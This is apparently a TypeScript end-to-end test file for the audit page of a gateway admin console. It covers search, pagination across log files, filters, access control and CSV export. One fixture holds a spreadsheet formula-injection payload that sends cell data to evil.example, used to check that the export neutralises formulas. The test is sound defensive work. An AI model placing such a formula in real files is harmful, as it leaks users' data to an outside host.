import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser } from 'playwright-core';
import { keyHash } from '../../helpers/bytes.js';
import { type FakeUpstream, startFakeUpstream } from '../../helpers/fake-upstream.js';
import { RawClient } from '../../helpers/raw-client.js';
import { startWharf, type Wharf } from '../../helpers/wharf.js';
import { openBrowser } from './chromium.js';
import { close, open as openPage, type Watched } from './lab.js';
import { look } from './looks.js';

const VIEWER = 'the-key-of-a-viewer';
const CALLER = 'the-key-of-a-caller';
const OTHER = 'the-key-of-another-caller';

/** A name that a spreadsheet would run. */
const FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"open")';

let folder: string;
let browser: Browser;
let watched: Watched;
let fake: FakeUpstream;
let wharf: Wharf;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'wharf-audit-page-'));
  browser = await openBrowser();
  fake = await startFakeUpstream({ transport: 'json' });
  wharf = await startWharf({
    servers: { store: { url: fake.url }, hr: { url: fake.url, allow: [{ key: 'ci' }] } },
    config: {
      auth: {
        use: 'apiKeys',
        keys: [
          { name: 'ci', hash: keyHash(CALLER) },
          { name: 'ada', hash: keyHash(OTHER) },
        ],
      },
      console: { users: [{ name: 'bob', hash: keyHash(VIEWER) }] },
      // small, so that the log is in several files
      audit: { use: 'file', path: join(folder, 'audit.jsonl'), maxSize: '64KiB' },
    },
  });
  const ci = await RawClient.connect(`${wharf.url}/store/mcp`, '2025-06-18', {
    headers: { authorization: `Bearer ${CALLER}` },
  });
  for (let count = 0; count < 300; count += 1) await ci.call('echo', { text: String(count) });
  await ci.call(FORMULA, {});
  const ada = await RawClient.connect(`${wharf.url}/store/mcp`, '2025-06-18', {
    headers: { authorization: `Bearer ${OTHER}` },
  });
  await ada.call('echo', { text: 'of ada' });
  const refused = { method: 'POST', headers: { authorization: `Bearer ${OTHER}` }, body: '{}' };
  expect((await fetch(`${wharf.url}/hr/mcp`, refused)).status).toBe(403);
});

afterEach(async () => {
  await close(watched?.page);
});

afterAll(async () => {
  await browser?.close();
  await wharf?.stop();
  await fake?.close();
  await rm(folder, { recursive: true, force: true });
});

async function openAudit(): Promise<Watched> {
  watched = await openPage(browser, `${wharf.adminUrl}/`);
  const { page } = watched;
  await page.getByLabel('Your key').fill(VIEWER);
  await page.getByRole('button', { name: 'Log in' }).click();
  await page.getByRole('link', { name: 'Audit' }).click();
  await page.getByRole('heading', { name: 'Audit' }).waitFor();
  return watched;
}

const read = (path: string, key = VIEWER) =>
  fetch(`${wharf.adminUrl}${path}`, { headers: { authorization: `Bearer ${key}` } });

interface Found {
  lines: Record<string, unknown>[];
  next?: string;
}

const ask = async (query: string) => (await (await read(`/api/audit?${query}`)).json()) as Found;

describe('the audit page of the console', () => {
  it('can be used by everybody, and finds what its form asks for', async () => {
    const { page } = await openAudit();
    await page.getByLabel('Who').fill('ADA');
    await page.getByRole('button', { name: 'Search' }).click();
    await page.locator('td.bad').first().waitFor();
    await look(watched, 'console-audit');
    await page.getByLabel('Outcome').selectOption('refused');
    await page.getByRole('button', { name: 'Search' }).click();
    await page.getByText('server_forbidden').waitFor();
    expect(await page.locator('tbody tr').count()).toBe(1);
    await page.getByLabel('What').selectOption('download');
    await page.getByRole('button', { name: 'Search' }).click();
    await page.getByText('Nothing fits.').waitFor();
    expect(await page.getByLabel('Who').inputValue()).toBe('ADA');
  });

  it('leads to older lines, over all files of the log', async () => {
    const seen: unknown[] = [];
    let after: string | undefined = '';
    while (after !== undefined) {
      const page: Found = await ask(`tool=echo&principal=ci${after && `&after=${after}`}`);
      seen.push(...page.lines.map(({ seq }) => seq));
      after = page.next;
    }
    expect(seen).toHaveLength(300);
    expect(seen).toEqual([...seen].sort((one, other) => Number(other) - Number(one)));
    const { page } = await openAudit();
    await page.getByRole('link', { name: 'Older' }).click();
    await page.waitForURL(/after=/);
    expect(await page.locator('tbody tr').count()).toBe(100);
  });

  it('knows time, server, kind and outcome', async () => {
    const [newest] = (await ask('principal=ada&what=call&outcome=allowed')).lines;
    expect(newest).toMatchObject({ what: 'call', allowed: true, principal: 'ada', server: 'store', tool: 'echo' });
    const time = String(newest?.time);
    const earlier = new Date(Date.parse(time) - 1).toISOString();
    expect((await ask(`principal=ada&what=call&outcome=allowed&until=${earlier}`)).lines).toEqual([]);
    expect((await ask(`principal=ada&what=call&outcome=allowed&from=${time}`)).lines).toEqual([newest]);
    expect((await ask('server=hr')).lines).toEqual([expect.objectContaining({ server: 'hr', allowed: false })]);
  });

  it('gives what fits as CSV without a formula', async () => {
    const answer = await read(`/audit.csv?tool=${encodeURIComponent('hyperlink')}`);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(answer.headers.get('content-disposition')).toContain('attachment');
    const [head, ...lines] = (await answer.text()).trimEnd().split('\r\n');
    expect(head).toMatch(/^time,what,allowed,principal,/);
    expect(lines.length).toBeGreaterThan(0);
    for (const line of lines) expect(line).toContain(`,"'=HYPERLINK(""http://evil.example`);
    expect((await read('/audit.csv?principal=ci')).headers.get('content-length')).not.toBe('0');
  });

  it.each(['/audit', '/audit.csv', '/api/audit', '/api/stored'])('shows %s to users alone', async (path) => {
    const answer = await read(path, CALLER);
    expect([answer.status, (await answer.text()).includes('ada')]).toEqual([401, false]);
  });
});
